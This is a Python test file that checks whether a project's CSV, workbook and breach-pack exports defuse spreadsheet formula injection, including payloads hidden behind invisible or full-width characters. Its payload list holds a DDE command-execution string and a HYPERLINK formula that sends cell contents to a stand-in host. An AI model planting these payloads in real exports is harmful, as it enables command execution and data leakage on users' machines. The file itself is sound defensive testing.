"""No cell that leaves the house is a formula, however it hides."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from rangkul.exchange import tables
from rangkul.exchange.tables import Table
from rangkul.foundation import cells
from rangkul.foundation.cells import defused
from rangkul.retention import breach

CODE = "formulas-defused"
SENTENCE = (
    "What somebody typed is never a formula in a table that leaves the house: not behind blanks, "
    "quotes, invisible signs or in full-width letters, in CSV and in workbooks."
)
_PAYLOADS = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/"&A1,"klik")', "+62811", "+1+1",
    "-2+3", "@SUM(1,1)", "=WEBSERVICE(A1)", "=IMPORTXML(A1,B1)", "-@x", "==", "=", "+", "-", "@",
    "=DDE(1)", "=\u00a0A1",
)  # fmt: skip
_COVERS = (
    "", " ", "\t", "\r", "\n", "\r\n", "   \t", "'", '"', '""', "' ", "\u00a0", "\u3000", "\ufeff",
    "\u200b", "\u200e", "\u2060", "`", "’", "“", "\x00", "\x0b", "\u2028",
)  # fmt: skip
_WIDE = str.maketrans("=+-@", "＝＋－＠")
_SMALL = str.maketrans("=+-@", "﹦﹢﹣﹫")
HOSTILE = sorted(
    {
        f"{cover}{payload}"
        for cover in _COVERS
        for text in _PAYLOADS
        for payload in (text, text.translate(_WIDE), text.translate(_SMALL))
    }
    | {"\tjudul", "\rjudul", "\njudul"}
)


def runs(cell: object) -> bool:
    """Whether a spreadsheet could run it: a cell that does not begin with an apostrophe."""
    if not isinstance(cell, str):
        return cell is not None
    return not cell.startswith("'") and bool(cell.strip(" \t\r\n"))


def hostile_table() -> Table:
    """One hostile cell a row."""
    return Table(
        title="=Kasus", headings=[defused("=a"), "b"],
        rows=[(defused(cell), 7) for cell in HOSTILE], stamp="=1+1 & x", about_title="@Tentang",
        about=[(defused("=1"), defused("+1"))],
    )  # fmt: skip


@pytest.mark.promise(CODE, chapter="web", sentence=SENTENCE)
def test_no_hostile_cell_is_a_formula_to_any_reader(figure: Callable[[str], None]) -> None:
    table = hostile_table()
    workbook = tables.xlsx_bytes(table)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).worksheets[0]
    typed = [cell for (cell, _number) in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in typed if cell.data_type == "f" or runs(cell.value)] == []
    assert {number.value for (_cell, number) in sheet.iter_rows(min_row=2)} == {7}
    again = CalamineWorkbook.from_filelike(io.BytesIO(workbook)).get_sheet_by_index(0)
    rows = again.to_python(skip_empty_area=False)[1:]
    assert len(rows) == len(HOSTILE)
    assert [row[0] for row in rows if runs(row[0])] == []
    text = tables.csv_bytes(table, for_excel=True).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(read) == len(HOSTILE)
    assert [row[0] for row in read if runs(row[0])] == []
    packed = list(csv.reader(io.StringIO(breach._csv([[cell] for cell in HOSTILE]), newline="")))
    assert [row[0] for row in packed if runs(row[0])] == []
    figure(f"0 of {len(HOSTILE)} hostile cells a formula in CSV, workbook and breach pack")


@pytest.mark.planted(CODE)
def test_a_list_that_knows_the_first_sign_alone_lets_some_through(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Planted: what most programs do, looking at the first sign only."""
    monkeypatch.setattr(cells, "_is_hiding", lambda sign: False)
    monkeypatch.setattr(cells, "_BEGINS", frozenset("=+-@"))
    assert [cell for cell in HOSTILE if runs(defused(cell))]


@pytest.mark.parametrize("text", ["Kota Semarang", "2026-11-22", "a=b", "", "0811-22", "‘kota’"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


def test_numbers_that_we_made_stay_numbers() -> None:
    plain = tables.csv_bytes(hostile_table(), for_excel=False).decode()
    assert ",7\r\n" in plain
    assert '"7"' not in plain


def test_a_workbook_carries_its_stamp_and_signs_that_xml_cannot() -> None:
    table = Table(
        title="Daftar: kasus/1", headings=["a"], rows=[("\x01satu\x0b\ud800 <b>&",)],
        stamp="EK-1 & lembaga", about_title="Tentang", about=[("Ekspor", "EK-1")],
    )  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(table)))
    assert book.sheetnames == ["Daftar kasus1", "Tentang"]
    assert book.worksheets[0]["A2"].value == "satu <b>&"
    assert book.worksheets[0].oddHeader.left.text == "EK-1  lembaga"
    assert book.worksheets[1]["B1"].value == "EK-1"
